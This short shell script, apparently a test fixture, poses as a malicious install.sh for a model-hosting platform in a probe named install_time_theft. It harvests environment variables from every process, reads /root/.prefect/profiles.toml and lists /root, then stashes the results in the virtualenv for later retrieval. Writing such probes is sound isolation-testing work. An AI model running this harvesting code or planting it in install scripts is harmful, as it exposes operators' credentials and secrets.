# An attacker's install.sh: while its environment is built it gathers what it can see of the
# platform and hides it in the model's own venv, for run_model to return later (the probe
# install_time_theft). The test that publishes this app appends the platform's real paths.
stolen="$VIRTUAL_ENV/stolen.txt"
: > "$stolen"
{
  for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" | grep -E '^(PREFECT_|CS_)'; done
  cat /root/.prefect/profiles.toml
  ls /root
} >> "$stolen" 2>/dev/null || true
